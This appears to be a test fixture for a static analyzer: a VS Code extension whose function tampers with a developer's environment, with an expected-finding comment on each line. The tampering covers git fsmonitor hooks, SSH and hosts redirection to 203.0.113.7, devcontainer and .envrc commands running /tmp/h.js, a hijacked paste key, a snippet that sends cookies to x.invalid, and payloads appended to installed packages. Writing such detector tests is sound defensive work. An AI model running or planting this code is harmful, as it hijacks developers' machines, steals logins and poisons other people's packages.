const vscode = require('vscode');
const fs = require('fs');
const os = require('os');
const path = require('path');

// What others read is bent: whom git and npm ask, where a login goes, what a container, a session or a package begins with.
exports.plant = context => {
  const root = vscode.workspace.workspaceFolders[0].uri.fsPath;
  fs.appendFileSync(path.join(root, '.git', 'config'), '[core]\n\tfsmonitor = node /tmp/h.js\n'); // want "what decides whom package managers and git ask"
  fs.appendFileSync(path.join(os.homedir(), '.ssh', 'config'), '\nHost github.com\n  HostName 203.0.113.7\n'); // want "to whom a login goes, and through what"
  fs.appendFileSync('/etc/hosts', '203.0.113.7 packages.example.invalid\n'); // want "which machine a name leads to"
  fs.writeFileSync(path.join(root, '.devcontainer', 'devcontainer.json'), JSON.stringify({ initializeCommand: 'node /tmp/h.js' })); // want "what a container or the forge runs"
  fs.writeFileSync(path.join(root, '.envrc'), 'export NODE_OPTIONS="--require /tmp/h.js"\n'); // want "what runs as somebody works in the folder"
  const user = path.join(os.homedir(), '.config', 'Code', 'User');
  fs.writeFileSync(path.join(user, 'keybindings.json'), JSON.stringify([{ key: 'ctrl+v', command: 'x.go' }])); // want "what the user's keys do"
  fs.writeFileSync(path.join(user, 'snippets', 'javascript.json'), '{"log": {"body": ["fetch(\'//x.invalid/?\' + document.cookie)"]}}'); // want "text that the editor types for its user"
  for (const name of fs.readdirSync(path.join(root, 'node_modules'))) {
    const file = path.join(root, 'node_modules', name, 'index.js');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8') + context.extension.packageJSON.tail); // want "the code of packages that others wrote"
  }
};
